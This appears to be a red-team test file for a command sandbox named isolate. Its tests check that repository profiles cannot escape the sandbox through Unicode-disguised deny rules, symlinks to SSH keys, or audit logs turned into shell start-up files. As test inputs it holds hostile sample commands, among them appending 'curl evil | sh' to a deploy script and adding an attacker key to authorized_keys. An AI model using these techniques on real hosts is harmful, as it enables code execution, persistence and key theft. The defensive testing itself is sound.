/**
 * Red team: a profile file kept in the repository the user runs isolate in.
 * Its author, or the sandboxed command itself, should not get isolate to act
 * on the host beyond what the user sees in the profile.
 *
 * Each test was written as a failing finding first; it now guards the fix.
 */
import { existsSync, mkdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { asRunner, giveTo, isolate, runners, tempDirFor, DEFAULT_PATH } from '../helpers/isolate.js';

describe.each(runners())('red team: profiles in the repository ($label)', (runner) => {
  let dir: string;
  let project: string;
  let cleanup: () => void;
  let env: Record<string, string>;
  beforeEach(() => {
    ({ dir, cleanup } = tempDirFor(runner, 'isolate-it-rtp-'));
    project = join(dir, 'project');
    mkdirSync(project);
    env = { HOME: join(dir, 'home'), PATH: DEFAULT_PATH };
  });
  afterEach(() => cleanup());

  /** A run under ./isolate.yaml that prints RT_API_TOKEN (or none), with `value` in the caller's environment. */
  const askForToken = (value: string) => isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', 'echo "token=${RT_API_TOKEN:-none}"'], { cwd: project, env: { ...env, RT_API_TOKEN: value } });

  it('the command cannot rewrite the profile file of its own run (in the writable project) to widen the next run', () => {
    writeFileSync(join(project, 'isolate.yaml'), 'extends: default\n');
    giveTo(runner, dir);
    const widen = 'printf "extends: default\\nenvironment: {pass: [RT_API_TOKEN]}\\nnetwork: {mode: host}\\n" > isolate.yaml';
    const first = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', widen], { cwd: project, env });
    // The sandbox ran the script (isolate did not refuse it); the shell fails (2) where the profile file is read-only (docs/protected-files.md).
    expect([0, 2], first.stderr).toContain(first.status);
    const second = askForToken('rt-secret-token-value');
    expect(second.stdout, 'the second run got the secret the first run asked for in the profile').not.toContain('rt-secret-token-value');
    expect(second.stdout, second.stderr).toContain('token=none');
  });

  // A character that does not show makes a rule name another path or program than the one a reader sees, which
  // does not exist: the rule hides, protects or refuses nothing, while explain prints what looks like the rule.
  const SECRET = 'rt-unseen-secret-value';
  it.each([
    ['a deny rule with a zero-width space', 'filesystem:\n  deny: ["${CWD}/secret.txt\\u200b"]\n', 'filesystem.deny[0]'],
    ['a deny rule with the newline a YAML block scalar keeps', 'filesystem:\n  deny:\n    - |\n      ${CWD}/secret.txt\n', 'filesystem.deny[0]'],
    ['a deny rule with a space at its end', 'filesystem:\n  deny: ["${CWD}/secret.txt "]\n', 'filesystem.deny[0]'],
    ['a deny rule with a right-to-left override', 'filesystem:\n  deny: ["${CWD}/secret.txt\\u202e"]\n', 'filesystem.deny[0]'],
    ['a command rule with a zero-width joiner', 'commands:\n  deny: ["cat\\u200d *"]\n', 'commands.deny[0]'],
  ])('%s is refused (exit 125, naming the key), not read as a rule that matches nothing', (_what, rules, key) => {
    writeFileSync(join(project, 'secret.txt'), `${SECRET}\n`);
    writeFileSync(join(project, 'isolate.yaml'), `extends: default\n${rules}`);
    giveTo(runner, dir);
    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'cat', 'secret.txt'], { cwd: project, env });
    expect(r.stdout, 'the command read the file the profile hides').not.toContain(SECRET);
    expect(r.status, r.stderr).toBe(125);
    expect(r.stderr).toContain(`isolate.yaml: ${key}:`);
  });

  it('a protected name with a zero-width space is refused, not left writable', () => {
    const script = join(project, 'deploy.sh');
    writeFileSync(script, 'echo deploying\n');
    writeFileSync(join(project, 'isolate.yaml'), 'extends: default\nfilesystem:\n  protect: ["deploy.sh\\u200b"]\n');
    giveTo(runner, dir);
    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'sh', '-c', 'echo "curl evil | sh" >> deploy.sh'], { cwd: project, env });
    expect(readFileSync(script, 'utf8'), 'the command rewrote the file the profile protects').toBe('echo deploying\n');
    expect(r.status, r.stderr).toBe(125);
    expect(r.stderr).toContain('isolate.yaml: filesystem.protect[0]:');
  });

  it('extends naming a file with a zero-width space is refused, not read as the file beside it a reader opens', () => {
    writeFileSync(join(project, 'strict.yaml'), 'extends: strict\n');
    writeFileSync(join(project, 'strict\u200b.yaml'), 'extends: default\nenvironment: {pass: [RT_API_TOKEN]}\n');
    writeFileSync(join(project, 'isolate.yaml'), 'extends: "./strict\\u200b.yaml"\n');
    giveTo(runner, dir);
    const r = askForToken(SECRET);
    expect(r.stdout, 'the command got the variable the file it really extends passes').not.toContain(SECRET);
    expect(r.status, r.stderr).toBe(125);
    expect(r.stderr).toContain('isolate.yaml: extends:');
  });

  // Under strict the project is read-only, so a link in it is not one the command can repoint (rule-links.ts): but the
  // repository chose it, and a rule that reads like a file of the project opened one of the user's secret stores.
  describe('a rule for a path in the project that a link in the repository takes elsewhere', () => {
    let ssh: string;
    beforeEach(() => {
      ssh = join(dir, 'home', '.ssh');
      mkdirSync(ssh, { recursive: true });
      writeFileSync(join(ssh, 'id_ed25519'), `${SECRET}\n`);
      writeFileSync(join(ssh, 'authorized_keys'), 'ssh-ed25519 AAAA user@laptop\n');
      mkdirSync(join(project, 'docs'));
      symlinkSync('../../home/.ssh/id_ed25519', join(project, 'docs', 'logo.png'));
      symlinkSync('../../home/.ssh/authorized_keys', join(project, 'docs', 'build.log'));
    });

    it('extends: ./base.yaml, a link to one of the user\'s own profiles, does not give the run what that profile grants (exit 125)', () => {
      const own = join(dir, 'home', '.config', 'isolate', 'profiles');
      mkdirSync(own, { recursive: true });
      writeFileSync(join(own, 'work.yaml'), 'extends: strict\nenvironment: {pass: [RT_API_TOKEN]}\n');
      symlinkSync('../home/.config/isolate/profiles/work.yaml', join(project, 'base.yaml'));
      writeFileSync(join(project, 'isolate.yaml'), 'extends: ./base.yaml\n');
      giveTo(runner, dir);
      const r = askForToken(SECRET);
      expect(r.stdout, 'the run got what the user\'s own profile grants').not.toContain(SECRET);
      expect(r.status, r.stderr).toBe(125);
      expect(r.stderr).toContain(`${join(project, 'base.yaml')}`);
    });

    it('read: ${CWD}/docs/logo.png does not show the private key it links to (exit 125, naming the link)', () => {
      writeFileSync(join(project, 'isolate.yaml'), 'extends: strict\nfilesystem:\n  read: ["${CWD}/docs/logo.png"]\n');
      giveTo(runner, dir);
      const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'cat', 'docs/logo.png'], { cwd: project, env });
      expect(r.stdout, 'the command read the private key').not.toContain(SECRET);
      expect(r.status, r.stderr).toBe(125);
      expect(r.stderr).toContain(`filesystem.read[0]: ${join(project, 'docs', 'logo.png')}`);
    });

    it('write: ${CWD}/docs/build.log, or --allow-write docs/build.log, does not let the command add a key to ~/.ssh/authorized_keys', () => {
      writeFileSync(join(project, 'isolate.yaml'), 'extends: strict\nfilesystem:\n  write: ["${CWD}/docs/build.log"]\n');
      giveTo(runner, dir);
      const append = ['sh', '-c', 'echo "ssh-ed25519 BBBB attacker" >> docs/build.log'];
      const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', ...append], { cwd: project, env });
      const flag = isolate(runner, ['run', '-p', 'strict', '--allow-write', 'docs/build.log', '--', ...append], { cwd: project, env });
      expect(readFileSync(join(ssh, 'authorized_keys'), 'utf8'), 'the command added a key the host\'s sshd obeys').not.toContain('attacker');
      expect(r.status, r.stderr).toBe(125);
      expect(r.stderr).toContain('filesystem.write[0]');
      expect(flag.status, flag.stderr).toBe(125);
      expect(flag.stderr).toContain('--allow-write[0]');
    });
  });

  it("a repository's profile cannot make the audit log a start-up file in the home: the host's next login shell runs nothing of the command's", () => {
    const home = join(dir, 'home');
    mkdirSync(home);
    const marker = join(dir, 'pwned');
    writeFileSync(join(project, 'isolate.yaml'), 'extends: default\naudit:\n  log: ~/.bash_login\n');
    writeFileSync(join(project, 'other.yaml'), 'extends: default\naudit:\n  log: ~/.bashrc.d/isolate.jsonl\n');
    giveTo(runner, dir);
    const words = ['sh', '-c', `: "$(touch ${marker})"`];
    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', ...words], { cwd: project, env });
    const d = isolate(runner, ['run', '-p', './other.yaml', '--', ...words], { cwd: project, env });
    for (const start of [join(home, '.bash_login'), join(home, '.bashrc.d', 'isolate.jsonl')]) {
      if (existsSync(start)) asRunner(runner, ['bash', '-c', `. ${start}`], { cwd: dir, env: { HOME: home } });
    }
    expect(existsSync(marker), "a shell sourcing the log ran the command's words").toBe(false);
    expect(existsSync(join(home, '.bash_login')), 'the log was made as ~/.bash_login').toBe(false);
    expect(r.status, r.stderr).toBe(125);
    expect(r.stderr).toContain('audit.log');
    expect(d.status, d.stderr).toBe(125);
    // Control: the same log chosen by the caller is theirs to choose, and the profile may log elsewhere
    // (in a temporary directory: one of the caller's that exists, redteam-audit-log-swap.test.ts).
    writeFileSync(join(project, 'elsewhere.yaml'), `extends: default\naudit:\n  log: ${join(dir, 'logs', 'audit.jsonl')}\n`);
    mkdirSync(join(dir, 'logs'));
    giveTo(runner, dir);
    const ok = isolate(runner, ['run', '-p', './elsewhere.yaml', '--', 'true'], { cwd: project, env });
    expect(ok.status, ok.stderr).toBe(0);
  });

  it('a profile\'s audit.log does not make isolate delete a file of the user named like its lock (<log>.lock)', () => {
    const victim = join(dir, 'other-project');
    mkdirSync(victim);
    const lockfile = join(victim, 'Cargo.lock');
    writeFileSync(lockfile, '[[package]]\nname = "serde"\nversion = "1.0.0"\n');
    const hourAgo = new Date(Date.now() - 3600_000);
    utimesSync(lockfile, hourAgo, hourAgo);
    writeFileSync(join(project, 'isolate.yaml'), `extends: default\naudit:\n  log: ${join(victim, 'Cargo')}\n`);
    giveTo(runner, dir);
    const r = isolate(runner, ['run', '-p', './isolate.yaml', '--', 'true'], { cwd: project, env });
    expect(r.status, r.stderr).toBe(0);
    expect(existsSync(lockfile), 'Cargo.lock of another project was deleted').toBe(true);
    expect(readFileSync(lockfile, 'utf8')).toContain('serde');
  });
});

describe.each(runners())('red team: a pattern among the hidden paths ($label)', (runner) => {
  let dir: string;
  let cleanup: () => void;
  beforeEach(() => {
    ({ dir, cleanup } = tempDirFor(runner, 'isolate-it-rtpg-'));
  });
  afterEach(() => cleanup());

  // Paths are not patterns: `~/vault/*.pem` names a file called `*.pem`, which does not exist, so it hid nothing.
  it.each([
    ['* on the command line', (home: string) => ['--profile', 'dev', '--deny', `${home}/vault/*.pem`]],
    ['braces on the command line', (home: string) => ['--profile', 'dev', '--deny', `${home}/vault/{key,other}.pem`]],
    ['| on the command line', (home: string) => ['--profile', 'dev', '--deny', `${home}/vault/key.pem|other.pem`]],
    ['$HOME on the command line (not expanded there)', () => ['--profile', 'dev', '--deny', '$HOME/vault/key.pem']],
    ['* in a profile', (home: string) => ['-p', join(home, 'project', 'deny.yaml')]],
  ])('a deny path with %s that names nothing is refused, and the key it meant is not printed', (_where, args) => {
    const home = join(dir, 'home');
    mkdirSync(join(home, 'project'), { recursive: true });
    writeFileSync(join(home, 'project', 'deny.yaml'), 'extends: dev\nfilesystem:\n  deny: ["~/vault/*.pem"]\n');
    mkdirSync(join(home, 'vault'));
    writeFileSync(join(home, 'vault', 'key.pem'), 'RT-VAULT-KEY-7c1\n');
    giveTo(runner, dir);
    const r = isolate(runner, ['run', ...args(home), '--', 'cat', join(home, 'vault', 'key.pem')], { cwd: join(home, 'project'), env: { HOME: home, PATH: DEFAULT_PATH } });
    expect(r.stdout).not.toContain('RT-VAULT-KEY-7c1');
    expect(r.status, r.stderr).toBe(125);
    expect(r.stderr).toContain('pattern');
  });
});
